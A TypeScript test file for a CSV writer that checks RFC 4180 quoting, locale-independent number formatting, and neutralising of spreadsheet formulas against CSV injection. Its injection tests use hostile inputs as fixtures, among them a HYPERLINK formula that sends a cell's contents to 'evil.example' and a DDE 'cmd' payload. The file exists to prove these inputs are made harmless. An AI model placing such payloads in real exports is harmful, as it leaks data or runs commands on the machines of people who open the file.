import fc from 'fast-check';
import { afterEach, describe, expect, it, vi } from 'vitest';

import { formatCell, formatNumber, formatRecord, neutralise, writeCsv } from './csv';
import { parseCsv } from '../test/test-parse-csv';

/** Text made mostly of what CSV and spreadsheets treat specially. */
const field = fc.string({
  unit: fc.constantFrom(',', '"', '\r', '\n', '\t', '=', '+', '-', '@', "'", ' ', 'a', '1', 'é', '＝', '\u0000'),
  maxLength: 12,
});

describe('RFC 4180 records', () => {
  it('ends every record with CRLF, the last one too', () => {
    const text = writeCsv({ meta: [], columns: ['a', 'b'], rows: [['x', 'y']] });
    expect(text).toBe('a,b\r\nx,y\r\n');
  });

  it('quotes fields with a comma, a quote, CR or LF, and doubles the quotes', () => {
    expect(formatCell('a,b')).toBe('"a,b"');
    expect(formatCell('say "hi"')).toBe('"say ""hi"""');
    expect(formatCell('one\ntwo')).toBe('"one\ntwo"');
    expect(formatCell('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(formatCell('a\rb')).toBe('"a\rb"');
    expect(formatCell('plain text')).toBe('plain text');
    expect(formatCell('Café "Le <Petit> & Co"')).toBe('"Café ""Le <Petit> & Co"""');
  });

  it('writes null and undefined as empty fields', () => {
    expect(formatRecord([null, 'a', undefined, 0])).toBe(',a,,0\r\n');
  });

  it('puts the metadata block first, as two-field # records, then the header and the rows', () => {
    const text = writeCsv({
      meta: [
        ['location_id', 11],
        ['location_name', 'Main, Concourse'],
      ],
      columns: ['window_start', 'traffic (entries)'],
      rows: [['2026-11-11T00:00:00-05:00', 42]],
    });
    expect(text).toBe(
      '# location_id,11\r\n# location_name,"Main, Concourse"\r\nwindow_start,traffic (entries)\r\n' +
        '2026-11-11T00:00:00-05:00,42\r\n',
    );
  });

  it('refuses a row whose length differs from the header', () => {
    expect(() => writeCsv({ meta: [], columns: ['a', 'b'], rows: [['x']] })).toThrow(/1 fields for 2 columns/);
  });

  it('reads back exactly, through an independent RFC 4180 reader, for any text (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(field, { minLength: 3, maxLength: 3 }), { maxLength: 8 }), (rows) => {
        const text = writeCsv({ meta: [], columns: ['a', 'b', 'c'], rows });
        expect(parseCsv(text)).toEqual([['a', 'b', 'c'], ...rows.map((row) => row.map(neutralise))]);
      }),
      { numRuns: 300 },
    );
  });
});

describe('formula neutralising (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['+1', "'+1"],
    ['-1+2', "'-1+2"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', "'\r=1+2"],
    ['\n=1+2', "'\n=1+2"],
    ['＝1+2', "'＝1+2"],
    ['=', "'="],
  ])('prefixes %j with a quote', (text, neutralised) => {
    expect(neutralise(text)).toBe(neutralised);
    // And the written field reads back as the neutralised text, whatever quoting it needed.
    expect(parseCsv(formatRecord([text]))).toEqual([[neutralised]]);
  });

  it('writes the hostile cases as the exact fields expected', () => {
    expect(formatCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(formatCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(formatCell('+1')).toBe("'+1");
    expect(formatCell('-1+2')).toBe("'-1+2");
    expect(formatCell('\tx')).toBe("'\tx");
    expect(formatCell('\rx')).toBe(`"'\rx"`);
  });

  it('leaves text that does not start like a formula alone', () => {
    for (const text of ['1-2', 'a=b', 'Main Concourse', '2026-11-11T00:00:00-05:00', "'quoted", '#1', ' =x']) {
      expect(neutralise(text)).toBe(text);
    }
  });

  it('writes numbers as data: a negative number we write is not prefixed, the same characters as text are', () => {
    expect(formatCell(-1)).toBe('-1');
    expect(formatCell(-0.05)).toBe('-0.05');
    expect(formatCell('-0.05')).toBe("'-0.05");
  });
});

describe('numbers', () => {
  afterEach(() => vi.restoreAllMocks());

  it('uses . for decimals, no grouping, no exponent, and the digits that give the same number back', () => {
    expect(formatNumber(0.4567)).toBe('0.4567');
    expect(formatNumber(1234567.25)).toBe('1234567.25');
    expect(formatNumber(1e-7)).toBe('0.0000001');
    expect(formatNumber(-1.5e-9)).toBe('-0.0000000015');
    expect(formatNumber(1.5e21)).toBe('1500000000000000000000');
    expect(formatNumber(2 / 3)).toBe('0.6666666666666666');
    expect(Number(formatNumber(0.1 + 0.2))).toBe(0.1 + 0.2);
    expect(formatNumber(-0)).toBe('0');
  });

  it('writes NaN and infinities as empty fields', () => {
    expect(formatCell(Number.NaN)).toBe('');
    expect(formatCell(Number.POSITIVE_INFINITY)).toBe('');
  });

  it('ignores the display locale (German formatting everywhere changes nothing)', () => {
    const german = new Intl.NumberFormat('de-DE', { maximumFractionDigits: 20 });
    vi.spyOn(Number.prototype, 'toLocaleString').mockImplementation(function (this: number) {
      return german.format(this);
    });
    expect((1234567.25).toLocaleString()).toBe('1.234.567,25'); // the stub is in force
    expect(formatNumber(1234567.25)).toBe('1234567.25');
    expect(formatRecord([0.4567, 1500])).toBe('0.4567,1500\r\n');
  });

  it('round-trips any finite number exactly (property)', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        const text = formatNumber(value);
        expect(text).toMatch(/^-?\d+(\.\d+)?$/);
        expect(Number(text)).toBe(Object.is(value, -0) ? 0 : value);
      }),
    );
  });
});
